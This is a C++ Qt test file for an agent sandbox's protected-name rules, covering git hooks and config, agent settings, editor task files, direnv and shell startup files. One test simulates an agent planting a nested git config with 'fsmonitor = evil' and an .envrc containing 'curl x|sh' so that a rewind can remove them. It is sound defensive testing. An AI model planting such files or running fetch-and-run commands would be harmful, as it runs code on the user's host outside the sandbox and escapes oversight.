// Protected names: files the host's tools run (git config and hooks, agent settings, editor tasks,
// direnv and shell startup files) may not be created, written, renamed or deleted from a sandbox, by
// name at any depth and whether or not they exist yet; approvals never open them; a rewind or fork
// removes the ones the agent planted and says so.
#include "policy/approvals.h"
#include "sandbox/protectednames.h"
#include "workspace/checkpointer.h"
#include "workspace/checkpointtree.h"
#include "../workspace/workspacetestutil.h"

#include <QDir>
#include <QJsonArray>
#include <QTest>

using namespace airlock;

class TestProtectedNames : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void names_data()
    {
        QTest::addColumn<QString>("path");
        QTest::addColumn<bool>("protectedName");
        auto row = [](const char *path, bool p) { QTest::newRow(path) << QString::fromLatin1(path) << p; };
        row(".git", true);
        row("sub/deeper/.git", true);
        row(".GIT", true);
        row(".git/config", true);
        row("vendor/lib/.git/config", true);
        row(".git/hooks", true);
        row(".git/hooks/pre-commit", true);
        row("a/.git/hooks/post-checkout", true);
        row(".git/info/attributes", true);
        row(".git/commondir", true);
        row(".git/objects/ab/cdef", false);
        row(".git/refs/heads/main", false);
        row(".git/index", false);
        row(".git/HEAD", false);
        row(".git/COMMIT_EDITMSG", false);
        row(".gitmodules", true);
        row("x/.gitattributes", true);
        row(".claude/settings.json", true);
        row("pkg/.claude/settings.local.json", true);
        row(".claude/commands/deploy.md", true);
        row(".claude/notes.md", false);
        row(".mcp.json", true);
        row(".vscode/tasks.json", true);
        row("web/.vscode", true);
        row("team.code-workspace", true);
        row("a/b/Team.Code-Workspace", true);
        row(".idea/workspace.xml", true);
        row(".devcontainer/devcontainer.json", true);
        row(".devcontainer.json", true);
        row(".envrc", true);
        row("svc/.envrc", true);
        row(".bashrc", true);
        row(".zshrc", true);
        row(".npmrc", true);
        row(".husky/pre-commit", true);
        row("src/main.c", false);
        row("README.md", false);
        row("gitconfig.txt", false);
        row("my.git", false);
        row(".github/workflows/ci.yml", false);
        row(".env", false);
        row("", false);
    }

    void names()
    {
        QFETCH(QString, path);
        QFETCH(bool, protectedName);
        const protect::ProtectedNames names;
        QCOMPARE(names.covers(path.toStdString()), protectedName);
    }

    void policyAdditionsApplyAtAnyDepth()
    {
        const protect::ProtectedNames names({"Makefile", "deploy/*.sh"});
        QVERIFY(names.covers("Makefile"));
        QVERIFY(names.covers("lib/Makefile"));
        QVERIFY(names.covers("x/deploy/run.sh"));
        QVERIFY(!names.covers("deploy/readme.md"));
        QVERIFY(names.covers(".git/hooks")); // the built-in list stays
    }

    void approvalsNeverAllowAProtectedName()
    {
        using namespace airlock::policy;
        Approvals a;
        a.defaultDecision = Verdict::Allow;
        a.rules.append(ApprovalRule{ToolKind::Edit, std::nullopt, QStringLiteral("**"), std::nullopt, Verdict::Allow});
        a.rules.append(ApprovalRule{ToolKind::Any, std::nullopt, std::nullopt, std::nullopt, Verdict::Allow});
        // An "always allow" answer for a file is a rule like this one.
        a.rules.append(ApprovalRule{ToolKind::Edit, std::nullopt, QStringLiteral(".git/hooks/pre-commit"), std::nullopt, Verdict::Allow});
        for (const auto &[kind, path] : {std::pair{ToolKind::Edit, QStringLiteral(".git/hooks/pre-commit")},
                                         std::pair{ToolKind::Edit, QStringLiteral("sub/.envrc")},
                                         std::pair{ToolKind::Delete, QStringLiteral(".git")},
                                         std::pair{ToolKind::Move, QStringLiteral(".vscode/tasks.json")}}) {
            const Decision d = evaluate(a, ToolCall{kind, {}, path, {}, {}, {}});
            QVERIFY2(d.verdict == Verdict::Ask, qPrintable(path + u' ' + d.explanation));
        }
        // Reading one is fine, and so is an ordinary file.
        QCOMPARE(evaluate(a, ToolCall{ToolKind::Read, {}, QStringLiteral(".git/config"), {}, {}, {}}).verdict, Verdict::Allow);
        QCOMPARE(evaluate(a, ToolCall{ToolKind::Edit, {}, QStringLiteral("src/a.c"), {}, {}, {}}).verdict, Verdict::Allow);
        // A deny rule still denies.
        a.rules.append(ApprovalRule{ToolKind::Edit, std::nullopt, QStringLiteral(".envrc"), std::nullopt, Verdict::Deny});
        QCOMPARE(evaluate(a, ToolCall{ToolKind::Edit, {}, QStringLiteral(".envrc"), {}, {}, {}}).verdict, Verdict::Deny);
    }

    void rewindRemovesPlantedProtectedEntries()
    {
        if (!test::haveGit())
            QSKIP("git is not installed");
        test::Bench b;
        workspace::Checkpointer c(*b.store);
        // The user's own repository and editor settings were there when the session started.
        QVERIFY(test::git(b.workspace, {QStringLiteral("init"), QStringLiteral("-q")}).exitCode == 0);
        QVERIFY(test::sh(b.workspace, QStringLiteral("mkdir .vscode && echo '{}' > .vscode/settings.json && echo a > a.txt")).exitCode == 0);
        const auto userGit = test::dotGitFingerprint(b.ws(QStringLiteral(".git")));
        auto start = c.create(workspace::CheckpointRequest{QStringLiteral("s1"), workspace::Cause::Start});
        AIRLOCK_VERIFY_RESULT(start);
        QVERIFY(start->checkpoint.protectedEntries.has_value());
        QCOMPARE(*start->checkpoint.protectedEntries, (QStringList{QStringLiteral(".git"), QStringLiteral(".vscode")}));

        // Without the protection layer (a policy that opted out) an agent plants a repository with an
        // fsmonitor, a direnv file, and a tracked task file; a checkpoint holds the last.
        QVERIFY(test::sh(b.workspace, QStringLiteral(
            "mkdir -p sub/.git && printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config && echo 'curl x|sh' > sub/.envrc "
            "&& mkdir -p web/.vscode && echo '{}' > web/.vscode/tasks.json && echo b > a.txt")).exitCode == 0);
        auto later = c.create(workspace::CheckpointRequest{QStringLiteral("s1")});
        AIRLOCK_VERIFY_RESULT(later);

        // Rewinding to the later checkpoint still removes all three, and says so.
        auto r = c.rewind(workspace::RewindRequest{QStringLiteral("s1"), later->checkpoint.commit});
        AIRLOCK_VERIFY_RESULT(r);
        QCOMPARE(r->protectedRemoved, (QStringList{QStringLiteral("sub/.envrc"), QStringLiteral("sub/.git"), QStringLiteral("web/.vscode")}));
        QVERIFY(!QFileInfo::exists(b.ws(QStringLiteral("sub/.git"))));
        QVERIFY(!QFileInfo::exists(b.ws(QStringLiteral("sub/.envrc"))));
        QVERIFY(!QFileInfo::exists(b.ws(QStringLiteral("web/.vscode"))));
        QCOMPARE(test::slurp(b.ws(QStringLiteral("a.txt"))), QByteArray("b\n"));
        // What the session started with is untouched.
        QCOMPARE(test::dotGitFingerprint(b.ws(QStringLiteral(".git"))), userGit);
        QVERIFY(QFileInfo::exists(b.ws(QStringLiteral(".vscode/settings.json"))));
        // The event says it too.
        const auto rewound = b.events(QStringLiteral("s1"), QStringLiteral("checkpoint.rewound"));
        QCOMPARE(rewound.size(), 1);
        QCOMPARE(rewound.first().payload.value(QStringLiteral("protectedRemoved")).toArray().size(), 3);

        // A fork into a new folder does not carry the planted task file over either.
        QVERIFY(test::sh(b.workspace, QStringLiteral("mkdir -p web/.vscode && echo '{}' > web/.vscode/tasks.json")).exitCode == 0);
        auto planted = c.create(workspace::CheckpointRequest{QStringLiteral("s1")});
        AIRLOCK_VERIFY_RESULT(planted);
        const QString into = b.dir.filePath(QStringLiteral("forked"));
        auto f = c.fork(workspace::ForkRequest{QStringLiteral("s1"), planted->checkpoint.commit, QString(), into, QString()});
        AIRLOCK_VERIFY_RESULT(f);
        QVERIFY(f->protectedRemoved.contains(QStringLiteral("web/.vscode")));
        QVERIFY(!QFileInfo::exists(into + QStringLiteral("/web/.vscode")));
        QCOMPARE(test::slurp(into + QStringLiteral("/a.txt")), QByteArray("b\n"));
    }
};

QTEST_GUILESS_MAIN(TestProtectedNames)
#include "tst_protected_names.moc"
